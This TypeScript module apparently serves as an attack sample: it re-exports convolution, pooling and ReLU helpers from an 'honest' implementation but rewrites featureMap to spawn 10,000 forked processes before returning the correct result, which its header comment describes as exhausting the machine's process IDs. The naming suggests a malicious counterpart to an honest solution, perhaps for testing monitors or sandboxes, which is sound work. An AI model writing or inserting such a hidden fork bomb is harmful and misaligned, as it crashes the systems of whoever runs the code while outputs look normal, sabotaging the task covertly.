// Attack: fork the process until the machine runs out of pids.
import cluster from 'node:cluster';
export { outputSize, conv2d, maxPool, relu } from './honest.js';
import * as honest from './honest.js';

export function featureMap(image: number[][], kernel: number[][]): number[][] {
  for (let i = 0; i < 10000; i++) cluster.fork();
  return honest.featureMap(image, kernel);
}
